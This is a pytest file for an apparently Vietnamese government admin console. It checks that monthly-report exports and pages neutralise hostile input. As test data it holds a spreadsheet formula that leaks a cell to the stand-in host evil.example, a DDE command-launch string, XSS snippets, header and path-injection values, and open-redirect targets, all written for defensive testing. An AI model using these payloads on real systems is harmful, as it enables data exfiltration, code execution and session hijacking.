"""Hostile input on the monthly report: figures whose names would run as spreadsheet formulas
or as script, and agency names that would break the download's header."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest

from smartapp.plugin import MonthlyFigure, Plugin
from smartapp.testing import TEST_PASSWORD, with_plugins
from tests.console.conftest import csrf_token

HTML = {"Accept": "text/html"}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
SCRIPT = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'


class HostilePlugin(Plugin):
    """Hostile"""

    slug = "hostile"
    version = "1.0"
    core_requires = ">=0.1"
    title = {"vi": "@SUM(1+1)*cmd|' /C calc'!A0"}

    def monthly_report(self, month_start: datetime, month_end: datetime) -> list[MonthlyFigure]:
        return [
            MonthlyFigure(FORMULA, "a", {"vi": SCRIPT}, 1, {"vi": "+1+1"}),
            MonthlyFigure("SXD", "b", {"vi": "-2+3"}, 2, {"vi": "\t=1"}),
        ]


pytestmark = with_plugins(HostilePlugin)


def test_csv_cells_never_start_a_formula(client, admin, sign_in):
    sign_in(admin)
    response = client.get("/admin/reports.csv?month=2026-02")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{FORMULA}" in cells and "'+1+1" in cells and "'-2+3" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "1" in cells and "2" in cells  # the values stay numbers


def test_figure_names_are_text_on_the_page(client, admin, sign_in):
    sign_in(admin)
    page = client.get("/admin/reports?month=2026-02", headers=HTML).get_data(as_text=True)
    assert "<script>alert(1)" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


@pytest.mark.parametrize(
    "agency", ["a\nb", 'a"; filename=evil.exe', "../../etc", "Sở Xây dựng", "a\x00b"]
)
@pytest.mark.parametrize("extension", ["csv", "pdf"])
def test_any_agency_gives_a_plain_file_name(client, admin, sign_in, agency, extension):
    sign_in(admin)
    response = client.get(f"/admin/reports.{extension}", query_string={"agency": agency})
    assert response.status_code in (200, 422), response.get_data(as_text=True)[:300]
    if response.status_code == 200:
        disposition = response.headers["Content-Disposition"]
        name = disposition.removeprefix('attachment; filename="').removesuffix('"')
        assert name.startswith("bao-cao-thang-") and name.endswith(f".{extension}")
        assert name.replace("-", "").replace(".", "", 1).isalnum(), disposition


def test_a_bad_download_names_the_field_on_the_error_page(client, admin, sign_in):
    sign_in(admin)
    page = client.get("/admin/reports.csv?month=2026-13", headers=HTML)
    assert page.status_code == 422
    assert "month" in page.get_data(as_text=True)
    refused = client.get("/admin/reports.pdf?month=0000-13")
    assert refused.status_code == 422
    assert "month" in refused.get_json()["errors"]


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("/admin/audit?action=a%00", "action"),
        ("/admin/reports?agency=a%00", "agency"),
        ("/admin/notifications?status=%00", "status"),
    ],
)
def test_a_nul_in_a_query_string_is_a_422_naming_it(client, admin, sign_in, path, field):
    sign_in(admin)
    page = client.get(path, headers=HTML)
    assert page.status_code == 422 and f"<strong>{field}</strong>" in page.get_data(as_text=True)
    answer = client.get(path, headers={"Accept": "application/json"})
    assert answer.status_code == 422 and field in answer.get_json()["errors"]


@pytest.mark.parametrize(
    ("target", "location"),
    [
        ("/admin/\r\nSet-Cookie: x=1", "/admin/"),
        ("/admin/\nx", "/admin/"),
        ("//evil.example", "/admin/"),
        ("https://evil.example/admin/", "/admin/"),
        ("/admin/reports?month=2026-02", "/admin/reports?month=2026-02"),
    ],
)
def test_where_to_go_after_signing_in_stays_on_the_console(client, admin, target, location):
    signed_in = client.post(
        "/admin/",
        data={
            "email": admin.account.email,
            "password": TEST_PASSWORD,
            "csrf_token": csrf_token(client),
            "next": target,
        },
    )
    assert signed_in.status_code == 303 and signed_in.headers["Location"] == location
    data = {"language": "en", "next": target, "csrf_token": csrf_token(client)}
    switched = client.post("/admin/language", data=data)
    assert switched.status_code == 303 and switched.headers["Location"] == location


@pytest.mark.parametrize("path", ["/admin/notifications/preview", "/admin/notifications/new"])
def test_the_largest_citizens_audience_is_counted(client, make_staff, sign_in, post, path):
    """100,000 citizen numbers (the schema's limit) are more bound parameters than
    PostgreSQL takes in one statement (65,535)."""
    sign_in(make_staff("communicator"))
    numbers = ",".join(str(number) for number in range(1, 100_001))
    form = {
        "title.vi": "Lịch cắt điện",
        "body.vi": "Thứ Bảy 7:00–11:00",
        "audience.kind": "citizens",
        "audience.citizens": numbers,
        "when": "now",
        "action": "preview",
    }
    response = post(path, form)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]


@pytest.mark.parametrize(
    "path",
    [
        "/admin/nowhere",
        "/admin/notifications/1/nowhere",
        "/admin/u/feedback-nope/x",
    ],
)
def test_an_address_no_page_has_is_the_consoles_404(client, admin, sign_in, path):
    sign_in(admin)
    page = client.get(path, headers=HTML)
    assert page.status_code == 404 and page.mimetype == "text/html"
    assert "<h1>404 · Không tìm thấy</h1>" in page.get_data(as_text=True)
    assert client.post(path, headers=HTML).status_code == 400  # no CSRF token
    answer = client.get(path, headers={"Accept": "application/json"})
    assert answer.status_code == 404 and answer.get_json()["code"] == 404
